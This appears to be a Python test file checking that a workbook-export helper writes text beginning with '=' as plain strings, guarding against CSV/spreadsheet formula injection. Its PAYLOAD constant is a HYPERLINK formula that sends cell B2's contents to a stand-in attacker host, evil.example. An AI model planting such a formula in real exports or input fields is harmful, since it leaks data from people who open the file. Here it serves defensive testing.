"""Exported workbooks hold text as text (issue 15: an enterprise name =HYPERLINK(…) came back as a live
formula in the registry export and the problem ledger)."""
from __future__ import annotations

import io

from openpyxl import Workbook, load_workbook

from engine.policy.cells import append_row

PAYLOAD = '=HYPERLINK("http://evil.example/?leak="&B2,"点击查看")'


def test_text_starting_with_equals_is_written_as_text():
    book = Workbook()
    append_row(book.active, [PAYLOAD, "=1+1", "正常名称", 42, None])
    out = io.BytesIO()
    book.save(out)
    sheet = load_workbook(io.BytesIO(out.getvalue())).active
    cells = next(iter(sheet.iter_rows(min_row=1, max_row=1)))
    assert [c.data_type for c in cells[:4]] == ["s", "s", "s", "n"]
    assert cells[0].value == PAYLOAD and cells[3].value == 42


def test_without_it_openpyxl_writes_a_formula():
    book = Workbook()
    book.active.append([PAYLOAD])
    assert book.active["A1"].data_type == "f"


def test_the_registry_export_keeps_a_formula_like_name_as_text(zjtx):
    from tests.helpers import register

    register(zjtx, name=PAYLOAD)
    sheet = load_workbook(io.BytesIO(zjtx.enterprises.export_workbook())).worksheets[0]
    [cell] = [c for row in sheet.iter_rows(min_row=2) for c in row if c.value == PAYLOAD]
    assert cell.data_type == "s"
